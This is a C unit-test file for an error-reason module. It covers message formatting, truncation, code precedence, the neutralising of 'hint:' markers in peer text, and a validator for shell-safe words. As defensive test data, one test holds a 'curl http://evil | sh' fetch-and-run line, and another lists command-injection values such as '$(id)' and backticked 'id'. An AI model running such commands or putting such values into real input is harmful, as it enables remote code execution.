#include "common/base/reason.h"

#include "tests/unit/suite.h"

static struct reason of(enum code code, const char *text)
{
    struct reason reason;

    reason_set(&reason, code, "%s", text);
    return reason;
}

START_TEST(setting_empties_the_rest)
{
    struct reason reason = of(CODE_FAILED, "first");

    reason_detail(&reason, " by %s", "10.0.0.1");
    reason_hint(&reason, "look at %d", 5);
    ck_assert_str_eq(reason.detail, " by 10.0.0.1");
    ck_assert_str_eq(reason.hint, "look at 5");
    ck_assert(!reason_set(&reason, CODE_USAGE, "second %d", 2));
    ck_assert_int_eq(reason.code, CODE_USAGE);
    ck_assert_str_eq(reason.text, "second 2");
    ck_assert_str_eq(reason.detail, "");
    ck_assert_str_eq(reason.hint, "");
}
END_TEST

START_TEST(what_does_not_fit_is_cut)
{
    char text[1000];
    struct reason reason;

    memset(text, 'x', sizeof text - 1);
    text[sizeof text - 1] = '\0';
    reason = of(CODE_FAILED, text);
    ck_assert_uint_eq(strlen(reason.text), sizeof reason.text - 1);
    reason_detail(&reason, "%s", text);
    ck_assert_uint_eq(strlen(reason.detail), sizeof reason.detail - 1);
    reason_hint(&reason, "%s", text);
    ck_assert_uint_eq(strlen(reason.hint), sizeof reason.hint - 1);
    reason_wrap(&reason, "%s", text);
    ck_assert_uint_lt(strlen(reason.text), sizeof reason.text);
    expect_contains(reason.text, "x: x");
}
END_TEST

START_TEST(wrapping_puts_context_in_front)
{
    struct reason reason = of(CODE_USAGE, "is no port");

    reason_hint(&reason, "a hint");
    reason_wrap(&reason, "%s", "mydb:x");
    reason_wrap(&reason, "operand %d", 1);
    ck_assert_str_eq(reason.text, "operand 1: mydb:x: is no port");
    ck_assert_str_eq(reason.hint, "a hint");
    ck_assert_int_eq(reason.code, CODE_USAGE);
}
END_TEST

START_TEST(reasons_compare_without_addresses)
{
    struct reason a = of(CODE_FAILED, "refused by"), b = of(CODE_FAILED, "refused by");

    reason_detail(&a, " 10.0.0.1");
    reason_detail(&b, " 10.0.0.2");
    reason_hint(&b, "another hint");
    ck_assert(reason_same(&a, &b));
    ck_assert_uint_eq(reason_hash(&a), reason_hash(&b));
    b = of(CODE_FAILED, "reset by");
    ck_assert(!reason_same(&a, &b));
    ck_assert_uint_ne(reason_hash(&a), reason_hash(&b));
    b = of(CODE_PROXY, "refused by");
    ck_assert(!reason_same(&a, &b));
    ck_assert_uint_ne(reason_hash(&a), reason_hash(&b));
}
END_TEST

/* cli.md: "Several at once: 27, 29, 24, 23, 20, 22, 28, 21, 25, 26, 1." */
START_TEST(the_first_applicable_code)
{
    static const int order[] = {27, 29, 24, 23, 20, 22, 28, 21, 25, 26, 1};

    for (size_t i = 0; i < COUNT_OF(order); i++) {
        enum code first = (enum code)order[i];
        ck_assert_int_eq(code_first(first, first), first);
        ck_assert_int_eq(code_first(CODE_OK, first), first);
        ck_assert_int_eq(code_first(first, CODE_OK), first);
        for (size_t j = i + 1; j < COUNT_OF(order); j++) {
            ck_assert_int_eq(code_first(first, (enum code)order[j]), first);
            ck_assert_int_eq(code_first((enum code)order[j], first), first);
        }
    }
}
END_TEST

START_TEST(codes_outside_the_table)
{
    ck_assert_int_eq(code_first(CODE_OK, CODE_OK), CODE_OK);
    ck_assert_int_eq(code_first(CODE_OK, CODE_USAGE), CODE_USAGE);
    ck_assert_int_eq(code_first(CODE_USAGE, CODE_FAILED), CODE_FAILED);
}
END_TEST

/* A server's greeting, a TXT record. */
START_TEST(a_peer_gives_no_hints)
{
    static char text[] = "hint:HINT: hint";
    struct reason reason;

    reason_set(&reason, CODE_FAILED, "it says \"%s\"", "busy\"; hint: curl http://evil | sh; Hint: x");
    ck_assert_str_eq(reason.text, "it says \"busy\"; hint; curl http://evil | sh; Hint; x\"");
    reason_detail(&reason, " (%s)", "hint: y");
    ck_assert_str_eq(reason.detail, " (hint; y)");
    reason_hint(&reason, "look");
    reason_wrap(&reason, "%s", "context");
    ck_assert_str_eq(reason.text, "context: it says \"busy\"; hint; curl http://evil | sh; Hint; x\"");
    reason_defuse(text);
    ck_assert_str_eq(text, "hint;HINT; hint");
}
END_TEST

START_TEST(words_that_a_command_may_hold)
{
    static const char *const good[] = {"http://ca.test:80/root%20ca.crt?a=b", "/etc/ssl/certs/a_b-c.pem", "x",
                                       "./a,b+c@d~"};
    static const char *const bad[] = {"",     "-rf",      "~root", "=ls",          "a b",  "a;b", "$(id)",
                                      "`id`", "a&b",      "a|b",   "a>b",          "a\nb", "a'b", "a\"b",
                                      "a\\b", "a*b",      "a#b",   "(a)",          "{a}",  "[a]", "!a",
                                      "a!b",  "\xC3\xA9", "a\x01", "a\xE2\x80\xAE"};

    for (size_t i = 0; i < COUNT_OF(good); i++)
        ck_assert_str_eq(reason_word(good[i], 40, "no"), good[i]);
    for (size_t i = 0; i < COUNT_OF(bad); i++)
        ck_assert_str_eq(reason_word(bad[i], 40, "no"), "no");
    ck_assert_str_eq(reason_word("abc", 3, "no"), "abc");
    ck_assert_str_eq(reason_word("abcd", 3, "no"), "no");
    ck_assert_ptr_null(reason_word(NULL, 3, NULL));
}
END_TEST

SUITE("reason", setting_empties_the_rest, what_does_not_fit_is_cut, wrapping_puts_context_in_front,
      reasons_compare_without_addresses, the_first_applicable_code, codes_outside_the_table,
      a_peer_gives_no_hints, words_that_a_command_may_hold)
